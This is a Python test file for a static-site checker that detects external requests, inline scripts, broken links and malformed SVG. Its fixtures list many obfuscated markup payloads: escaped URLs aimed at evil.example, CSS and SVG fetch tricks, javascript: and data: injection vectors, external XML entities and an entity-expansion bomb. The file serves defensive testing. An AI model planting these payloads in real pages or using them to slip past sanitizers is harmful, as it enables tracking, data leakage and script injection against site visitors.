"""What markup could run, fetch or tell elsewhere, in all the ways in which HTML, CSS, SVG and JavaScript write it. (Over 300 lines: a list of markup.)"""

from __future__ import annotations

from html import escape
from itertools import pairwise
from typing import TYPE_CHECKING

import pytest

from mnist_report.publishing.checks import Fault, check
from mnist_report.publishing.checks.page import Page
from mnist_report.publishing.checks.references import references
from mnist_report.publishing.checks.styles import style_addresses
from mnist_report.publishing.urls import Url

if TYPE_CHECKING:
    from pathlib import Path

HOME = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Home</title></head><body>
<p id="here">Text.</p>

{planted}
</body></html>
"""
LINE = 5
"""Of what is planted."""

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{planted}</svg>'
ASKS = "asks another host for "
CODE = "is code inside the page"


@pytest.fixture
def site(tmp_path: Path) -> Path:
    (tmp_path / "a.png").write_bytes(b"")
    (tmp_path / "lesson").mkdir()
    (tmp_path / "lesson" / "index.html").write_text('<!doctype html><html lang="en"><title>A</title><p id="b">B</p>', encoding="utf-8")
    return tmp_path


def faults_of(site: Path, planted: str) -> list[Fault]:
    (site / "index.html").write_text(HOME.format(planted=planted), encoding="utf-8")
    return check(site)


# What browsers take for an address on another host, each as the `src` of a picture.
ELSEWHERE = [
    "https://evil.example/a.png", "HTTPS://evil.example/a.png", "//evil.example/a.png", "///evil.example/a.png",
    r"\\evil.example\a.png", r"/\evil.example/a.png", r"\/evil.example/a.png", " https://evil.example/a.png",
    "\x01\x1fhttps://evil.example/a.png", "ht\ntps://evil.example/a.png", "/\t/evil.example/a.png", "https:evil.example/a.png",
    "https:/evil.example/a.png", "http:///evil.example/a.png", r"https:\evil.example\a.png", "https://me:you@evil.example/a.png",
    "https://[::1]/a.png", "https://2130706433/a.png", "ftp://evil.example/a.png", "wss://evil.example/a.png",
    "https://site.invalid.evil.example/", "https://site.invalid@evil.example/", "http://site.invalid:8080/a.png",
    "file:///etc/hostname", "https:&#x2F;/evil.example", "https&colon;//evil.example/a.png", "&sol;&bsol;evil.example/a.png",
]


@pytest.mark.parametrize("address", ELSEWHERE)
def test_an_address_is_read_as_a_browser_reads_it(site: Path, address: str) -> None:
    messages = [fault.message for fault in faults_of(site, f'<img alt="A" src="{address}">')]
    assert any(message.startswith(ASKS) for message in messages), messages
    assert faults_of(site, '<img alt="A" src="a.png">') == []


# Each asks another host, in the line where it is planted.
REQUESTS = [
    '<iframe title="a" srcdoc="&lt;img alt=A src=https://evil.example/>"></iframe>',
    f'<iframe title="a" srcdoc="{escape(chr(60) + "iframe srcdoc=" + chr(34) + escape(chr(60) + "img src=//evil.example>") + chr(34) + ">")}"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv=" REFRESH" content=" 5.5 , URL = \'//evil.example/\' x">',
    '<meta http-equiv="refresh" content="0 https://evil.example/">',
    '<form action="https://evil.example/"><button>a</button></form>',
    '<form><button formaction="https://evil.example/">a</button></form>',
    '<form><input type="image" alt="a" src="https://evil.example/a.png"></form>',
    '<p><a href="lesson/" ping="lesson/ https://evil.example/">a</a></p>',
    '<p><a href="lesson/" attributionsrc="https://evil.example/">a</a></p>',
    '<img alt="a" src="a.png" srcset="a.png 1x,https://evil.example/a.png 2x">',
    '<img alt="a" src="a.png" srcset="a.png, https://evil.example/a.png">',
    '<img alt="a" src="a.png" srcset="a.png 1x (a, b),//evil.example/a.png">',
    '<img alt="a" src="a.png" lowsrc="https://evil.example/a.png">',
    '<img alt="a" src="a.png" dynsrc="https://evil.example/a.avi">',
    '<picture><source srcset="https://evil.example/a.webp"><img alt="a" src="a.png"></picture>',
    '<link rel="preload" as="image" href="a.png" imagesrcset="https://evil.example/a.png 2x">',
    '<link rel="preconnect" href="https://evil.example">', '<link rel="DNS-Prefetch" href="//evil.example">',
    '<link rel="license prefetch" href="https://evil.example">', '<link rel="modulepreload" href="https://evil.example/a.js">',
    '<link rel="StyleSheet" href="https://evil.example/a.css">', '<link rel="manifest" href="https://evil.example/a.json">',
    '<link rel="next" href="https://evil.example/">', '<link rel="icon" href="https://evil.example/a.ico">',
    '<table background="https://evil.example/a.png"><tr><td>a</td></tr></table>',
    '<table><tr><td background="//evil.example/a.png">a</td></tr></table>',
    '<video src="https://evil.example/a.mp4"></video>', '<video poster="https://evil.example/a.png"></video>',
    '<audio><source src="https://evil.example/a.mp3"></audio>', '<video><track src="https://evil.example/a.vtt"></video>',
    '<embed src="https://evil.example/a.swf">', '<object data="https://evil.example/a.swf"></object>',
    '<object codebase="https://evil.example/"></object>', '<object classid="https://evil.example/a.class"></object>',
    '<object archive="a.png https://evil.example/a.jar"></object>',
    '<object><param name="Movie" value="https://evil.example/a.swf"></object>',
    '<iframe title="a" src="https://evil.example/"></iframe>', "<portal src=https://evil.example/></portal>",
    "<fencedframe src=https://evil.example/></fencedframe>", "<template><img alt=a src=https://evil.example/a.png></template>",
    "<div><template shadowrootmode=open><img alt=a src=https://evil.example/a.png></template></div>",
    "<noscript><img alt=a src=https://evil.example/a.png></noscript>", '<script src="https://evil.example/a.js"></script>',
    '<script type="text/plain" src="//evil.example/a.js"></script>', '<base href="https://evil.example/">',
    r'<p style="background:\75rl(https://evil.example/a.png)">a</p>', r'<p style="background:u\72 l(//evil.example/a.png)">a</p>',
    r'<p style="background:url(\68ttps://evil.example/a.png)">a</p>', '<p style="background:URL( &quot;//evil.example&quot; )">a</p>',
    '<p style="background:url(/**/https://evil.example/a.png);background:url(https:/**/evil.example)">a</p>',
    "<p style=\"background:image-set('https://evil.example/a.png' 1x)\">a</p>",
    "<p style=\"background:-webkit-image-set(url(https://evil.example/a.png) 1x)\">a</p>",
    "<p style=\"background:src('https://evil.example/a.png')\">a</p>", "<p style=\"--a:{b:url(https://evil.example/a.png)}\">a</p>",
    "<p style=\"background:image-set(linear-gradient(red,red) 1x, url(https://evil.example/a.png) 2x\">a</p>",
    "<style>@import 'https://evil.example/a.css';</style>", r"<style>@\69mport/**/url(https://evil.example/a.css) layer(a);</style>",
    "<style media=print>@import \"//evil.example/a.css\" screen;</style>", "<style>a{b:url(https://evil.example/a.png</style>",
    "<style>@font-face{font-family:a;src:local(a),url(https://evil.example/a.woff2)format('woff2')}</style>",
    "<style>@namespace a url(https://names.example/);@import 'https://evil.example/a.css';</style>",
    "<style>@media print{@supports (a:b){a:hover{cursor:url(https://evil.example/a.cur),auto}}}</style>",
    '<p style="@namespace a;background:url(https://evil.example/a.png)">a</p>', '<p style="@namespace{}background:url(//evil.example/a.png)">a</p>',
    '<svg><image href="https://evil.example/a.png"/></svg>', '<svg><image xlink:href="//evil.example/a.png"/></svg>',
    '<svg><use href="https://evil.example/a.svg#a"/></svg>', '<svg><feImage href="https://evil.example/a.png"/></svg>',
    '<svg><style>@import "https://evil.example/a.css";</style></svg>', '<svg><rect fill="url(https://evil.example/a.svg#a)"/></svg>',
    '<svg><rect filter="url(&quot;https://evil.example/a.svg#a&quot;)"/></svg>',
    '<svg><script href="https://evil.example/a.js"></script></svg>', '<svg><textPath href="https://evil.example/a.svg#a"/></svg>',
    '<svg><image><set attributeName="href" to="https://evil.example/a.png"/></image></svg>',
    '<svg><image><animate attributeName="xlink:href" values="a.png;https://evil.example/a.png"/></image></svg>',
    '<svg><foreignObject><img alt="a" src="https://evil.example/a.png"/></foreignObject></svg>',
    '<script>__md_scope=new URL(".");fetch("https:evil.example")</script>',
    '<script>__md_scope=new URL(".");fetch ( /* a */ `https://evil.example/${a}`)</script>',
    r'<script>__md_scope=new URL(".");fetch("\x68ttps:\/\/evil.example")</script>',
    r'<script>__md_scope=new URL(".");import("\u{68}ttps://evil.example/a.js")</script>',
    '<script>__md_scope=new URL("https://evil.example/a.js")</script>',
    '<script>__md_scope=new URL(".");new Image().src = " //evil.example/a.png"</script>',
    "<script>__md_scope=new URL('.');location = 'https://evil.example/'</script>",
    "<script>__md_scope=new URL('.');window.open('https://evil.example/')</script>",
    "<script>__md_scope=new URL('.');a.setAttribute('src', 'https://evil.example/')</script>",
    '<script>__md_scope=new URL(".");new XMLHttpRequest().open("GET", "https://evil.example/")</script>',
    """<script>__md_scope=new URL(".");a.innerHTML = "<img src='https://evil.example/a.png'>"</script>""",
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
    '<script type="importmap">{"imports":{"a":"//evil.example/a.js"}}</script>',
]


@pytest.mark.parametrize("planted", REQUESTS)
def test_a_request_is_found(site: Path, planted: str) -> None:
    faults = faults_of(site, planted)
    found = [fault for fault in faults if fault.rule == "third_party_requests"]
    assert [(fault.path, fault.line) for fault in found] == [("index.html", LINE)], faults
    assert found[0].message.startswith(ASKS)
    assert "evil.example" in found[0].message
    assert found[0].message.endswith("; it should be a file of the site")


# Each is code inside the page.
CODES = [
    '<p><a href="javascript:a()">a</a></p>', '<p><a href="java&#9;script:a()">a</a></p>', '<p><a href="&#1; JavaScript:a()">a</a></p>',
    '<p><a href="java\nscript:a()">a</a></p>', '<p><a href="&#106;avascript&colon;a()">a</a></p>', '<p><a href="vbscript:a()">a</a></p>',
    '<p><a href="data:text/html,a">a</a></p>', '<p><a href="blob:https://evil.example/a">a</a></p>',
    '<form action="javascript:a()"><button>a</button></form>', '<form><button formaction="javascript:a()">a</button></form>',
    '<iframe title="a" src="javascript:a()"></iframe>', '<iframe title="a" src="data:text/html,a"></iframe>',
    '<iframe title="a" srcdoc="&lt;script>a()&lt;/script>"></iframe>', '<iframe title="a" srcdoc="&lt;p onclick=a()>a"></iframe>',
    '<object data="data:text/html,a"></object>', '<embed src="data:image/svg+xml,a">', '<script src="data:text/javascript,a()"></script>',
    '<meta http-equiv="refresh" content="0;url=data:text/html,a">', '<meta http-equiv="refresh" content="0;url=javascript:a()">',
    '<img alt="a" src="javascript:a()">', '<p onPointerRawUpdate="a()">a</p>', '<svg onload="a()"></svg>',
    '<svg><a xlink:href="javascript:a()"><text>a</text></a></svg>', '<svg><a><set attributeName="href" to="javascript:a()"/></a></svg>',
    '<svg><a><animate attributeName="href" values="a.png; javascript:a()"/></a></svg>',
    '<svg><use href="data:image/svg+xml,a#b"/></svg>', '<math><mi href="javascript:a()">a</mi></math>', "<script>a()</script>",
    '<script type="">a()</script>', "<script type=module>a()</script>", '<script type=" Text/ECMAScript ">a()</script>',
    "<svg><script>a()</script></svg>", '<svg><style><a href="javascript:a()"/></style></svg>',
    '<script type="speculationrules">{}</script>', "<template><script>a()</script></template>", "<noscript><p onclick=a()>a</noscript>",
    '<link rel="stylesheet" href="data:text/css,@import">', '<style>@import "data:text/css,a{}"</style>', '<style>@import url(data:,a)</style>',
    "<article><script>__md_scope=new URL('.');a()</script></article>", '<img alt="a" src="data:text/html,a">',
    "<p style=\"background:url('javascript:a()')\">a</p>",
]


@pytest.mark.parametrize("planted", CODES)
def test_code_is_found(site: Path, planted: str) -> None:
    faults = faults_of(site, planted)
    found = [fault for fault in faults if fault.rule == "inline_scripts"]
    assert [(fault.path, fault.line) for fault in found] == [("index.html", LINE)], faults
    assert CODE in found[0].message


HARMLESS = [
    '<p><a href="https://other.example/">a</a> <a href="//other.example/">a</a> <a href="mailto:a@b.example">a</a></p>',
    '<p><a href="tel:+431">a</a> <a href="ftp://other.example/">a</a> <a href="javascript:void(0)">a</a></p>',
    '<p><a href=" lesson/ ">a</a> <a href="./lesson/../lesson/%2e/index.html?x=https://other.example/#b">a</a></p>',
    r'<p><a href="lesson\index.html#b">a</a> <a href="#here">a</a> <a href="">a</a> <a href="?x=//other.example">a</a></p>',
    '<map name="a"><area alt="a" href="https://other.example/"></map>', '<svg><a href="https://other.example/"><text>a</text></a></svg>',
    '<math><mi href="https://other.example/">a</mi></math>', '<blockquote cite="https://other.example/">a</blockquote>',
    '<link rel="license" href="https://other.example/">', '<link rel="alternate me" href="https://other.example/">',
    '<meta property="og:image" content="https://other.example/a.png">', '<meta name="refresh" content="0;url=https://other.example/">',
    '<meta http-equiv="refresh" content="0; url=lesson/">', '<meta http-equiv="refresh" content="30">',
    '<p itemid="https://other.example/" itemscope itemtype="https://other.example/">a</p>',
    '<p title="javascript: a language" data-src="https://other.example/">https://other.example/</p>',
    '<img alt="javascript:a()" src="data:image/png;base64,AA">', '<img alt="a" src="a.png" srcset="a.png 1x,a.png?(a,b) 2x , a.png 3x">',
    '<p style="color:red;--a:\'https://other.example/\'">a</p>', '<p style="background:url(data:image/png;base64,AA)">a</p>',
    '<p style="/* url(https://other.example/) */background:url( a.png )">a</p>', "<style>a::after{content:'url(https://other.example/)'}</style>",
    "<style>@namespace svg url(https://names.example/);@charset '//other.example';a{b:c}</style>",
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#here)"/><use href="#here"/></svg>',
    '<svg><animate attributeName="width" values="https://other.example/"/></svg>',
    '<object><param name="quality" value="https://other.example/"></object>',
    '<script type="application/ld+json">{"@context": "https://schema.org", "url": "javascript:a()"}</script>',
    '<script type="text/x-template"><img src="https://other.example/"></script>', "<!-- <img src=https://other.example/a.png> -->",
    '<textarea><img src="https://other.example/" onload="a()"></textarea>', "<pre><code>&lt;script&gt;a()&lt;/script&gt;</code></pre>",
    '<script>__md_scope=new URL(".");a = "https://other.example/"; b.href = "https://other.example/"; // https://other.example/</script>',
    """<script>__md_scope=new URL(".");fetch("lesson/");a.innerHTML = "<a href='https://other.example/'>"</script>""",
    '<iframe title="a" srcdoc="&lt;p id=here>a&lt;/p>&lt;a href=https://other.example/>a&lt;/a>"></iframe>', '<input value="https://other.example/" aria-label="a">',
]


@pytest.mark.parametrize("planted", HARMLESS)
def test_what_is_harmless_is_left_alone(site: Path, planted: str) -> None:
    assert faults_of(site, planted) == []


FILES = {
    "a.css": ("a {\n  b: \\75 rl(https://evil.example/a.png) }", 2), "A.CSS": ('@import\n"https://evil.example/a.css"', 2),
    "a.js": ('a\nimport("https://evil.example/a.js")', 2), "a.mjs": ("export * from '//evil.example/a.js'", 1),
    "a.htm": ("<!doctype html><title>a</title>\n<img alt=a src=//evil.example/a.png>", 2),
    "a.xhtml": ('<html xmlns="http://www.w3.org/1999/xhtml"><title>a</title><body>\n<img alt="a" src="//evil.example/a.png"/></body></html>', 2),
    "a.svg": (SVG.format(planted='<image href="https://evil.example/a.png"/>'), 2),
    "b.svg": (SVG.replace("xmlns:xlink", "xmlns:x").format(planted='<image x:href="https://evil.example/a.png"/>'), 2),
    "c.svg": ('<?xml version="1.0"?>\n<?xml-stylesheet type="text/css" href="https://evil.example/a.css"?><svg/>', 2),
    "d.svg": ('<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">\n<svg/>', 1),
    "e.svg": ('<!DOCTYPE svg [\n<!ENTITY a SYSTEM "https://evil.example/a.txt">]>\n<svg>&a;</svg>', 2),
    "f.svg": ('<!DOCTYPE svg [<!ENTITY a "https://evil.example/a.png">]>\n<svg><image href="&a;"/></svg>', 2),
    "g.svg": (SVG.format(planted="<style><![CDATA[\n@import 'https://evil.example/a.css';]]></style>"), 3),
    "h.svg": (SVG.format(planted='<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/></foreignObject>'), 2),
    "a.xml": ('<?xml-stylesheet type="text/xsl" href="//evil.example/a.xsl"?>\n<a/>', 1),
}


@pytest.mark.parametrize("name", FILES)
def test_a_request_is_found_in_whatever_file(site: Path, name: str) -> None:
    assert faults_of(site, "") == []
    text, line = FILES[name]
    (site / name).write_text(text, encoding="utf-8")
    faults = [fault for fault in check(site) if fault.rule == "third_party_requests"]
    assert [(fault.path, fault.line) for fault in faults] == [(name, line)]


@pytest.mark.parametrize("planted", ["<script>a()</script>", '<a xlink:href="java&#9;script:a()"/>', '<g onclick="a()"/>',
                                     '<x:script xmlns:x="http://www.w3.org/2000/svg">a()</x:script>'])
def test_code_is_found_in_a_picture(site: Path, planted: str) -> None:
    (site / "a.svg").write_text(SVG.format(planted=planted), encoding="utf-8")
    (fault,) = faults_of(site, "")
    assert (fault.path, fault.line, fault.rule) == ("a.svg", 2, "inline_scripts")


BROKEN = {
    '<p><a href="https:lesson/">a</a></p>': "'https:lesson/': on some hosts it leads elsewhere; it should have // after its scheme",
    r'<p><a href="\lesson\">a</a></p>': "starts at the root of the host",
    '<p><a href="%2e%2E/gone/">a</a></p>': "'%2e%2E/gone/': there is no file 'gone/'",
    '<p><a href=" gone/ ">a</a></p>': "' gone/ ': there is no file 'gone/'",
    '<form action="gone/"><button>a</button></form>': "<form> leads to 'gone/'",
    '<form><button formaction="gone/">a</button></form>': "<button> leads to 'gone/'",
    '<p><a href="lesson/" ping="gone/">a</a></p>': "<a> leads to 'gone/'",
    '<img alt="a" src="a.png" srcset="a.png 1x,gone.png 2x">': "<img> leads to 'gone.png'",
    '<meta http-equiv="refresh" content="0; url=gone/">': "<meta> leads to 'gone/'",
    '<p style="background:url(gone.png)">a</p>': "<p> leads to 'gone.png'",
    '<blockquote cite="gone/">a</blockquote>': "<blockquote> leads to 'gone/'",
    '<iframe title="a" srcdoc="&lt;img alt=A src=gone.png>"></iframe>': "<img> leads to 'gone.png'",
    '<base href="./">': "<base> gives every address another meaning; remove it",
}


@pytest.mark.parametrize("planted", BROKEN)
def test_a_link_to_nowhere_is_found_wherever_it_stands(site: Path, planted: str) -> None:
    (fault,) = faults_of(site, planted)
    assert (fault.path, fault.line, fault.rule) == ("index.html", LINE, "broken_links")
    assert BROKEN[planted] in fault.message


@pytest.mark.parametrize(
    ("content", "line", "message"),
    [
        (b"<svg>\n<g></svg>", 2, "mismatched tag; it should be well-formed XML"),
        (b"\xff\xfe<\0s\0v\0g\0/\0>\0", 1, "byte 0 is 0xff; it should be UTF-8"),
        (b"<svg>&gone;</svg>", 1, "undefined entity; it should be well-formed XML"),
        (b"", 1, "no element found; it should be well-formed XML"),
    ],
)
def test_a_picture_that_no_browser_shows(site: Path, content: bytes, line: int, message: str) -> None:
    (site / "a.svg").write_bytes(content)
    assert (line, message) in [(fault.line, fault.message) for fault in faults_of(site, "") if fault.path == "a.svg"]


def test_a_page_is_utf8_and_says_no_other(site: Path) -> None:
    (site / "a.html").write_bytes("<!doctype html><title>a</title><img src=//evil.example alt=a>".encode("utf-16"))
    assert "byte 0 is 0xff; it should be UTF-8" in [fault.message for fault in faults_of(site, "")]
    (site / "a.html").write_text('<!doctype html><meta charset="utf-7"><title>a</title>', encoding="utf-8")
    assert [fault.message for fault in faults_of(site, "")] == ["it says that it is 'utf-7'; it should be UTF-8"]


def test_a_bomb_of_entities_is_refused(site: Path) -> None:
    names = "abcdefghijklmnop"
    bomb = "".join(f'<!ENTITY {name} "{f"&{before};" * 50}">' for before, name in pairwise(names))
    (site / "a.svg").write_text(f'<!DOCTYPE svg [<!ENTITY a "{"a" * 1000}">{bomb}]><svg>&p;</svg>', encoding="utf-8")
    assert [fault.path for fault in faults_of(site, "")] == ["a.svg"]


@pytest.mark.parametrize("text", ["(" * 100_000, "url(" * 50_000, "a{" * 50_000, "\\", '"', "@import", "url(", "@namespace", ""])
def test_a_style_sheet_of_anything_is_read(text: str) -> None:
    assert all(line >= 1 for _, line in style_addresses(text))


def test_a_number_of_any_length_is_read() -> None:
    page = Page.parse("a.html", f'<!doctype html><title>a</title>\n<p title="&#{"9" * 5000};">&#{"0" * 5000}65;')
    assert [line for line, message in page.errors if "numeric-entity" in message] == [2, 2]


def test_markup_of_any_depth_is_read() -> None:
    deep = "<div>" * 2_000 + "<img src=a.png>"
    assert [each.address for element in Page.parse("a.html", deep).everything for each in references(element)] == ["a.png"]


PAGE = "/course/page/"
RESOLVED = {
    "a/b": Url("https", "host.example", "/course/page/a/b"),
    "": Url("https", "host.example", PAGE),
    "?a": Url("https", "host.example", PAGE),
    "#a:b": Url("https", "host.example", PAGE, "a:b"),
    "..": Url("https", "host.example", "/course/"),
    "../../../a": Url("https", "host.example", "/a"),
    ".%2E/a/%2e": Url("https", "host.example", "/course/a/"),
    "/a/./b/../c": Url("https", "host.example", "/a/c"),
    "a\\b#c\\d": Url("https", "host.example", "/course/page/a/b", "c\\d"),
    "1a:b": Url("https", "host.example", "/course/page/1a:b"),
    "//Other:443/a": Url("https", "other", "/a"),
    "http://me@other:80": Url("http", "other", "/"),
    "https:a/b": Url("https", "a", "/b"),
    "mailto:a@b": Url("mailto"),
    "a:b": Url("a"),
}


@pytest.mark.parametrize("address", RESOLVED)
def test_a_url_is_parsed_as_the_standard_says(address: str) -> None:
    assert Url.parse(address, f"https://host.example{PAGE}") == RESOLVED[address]
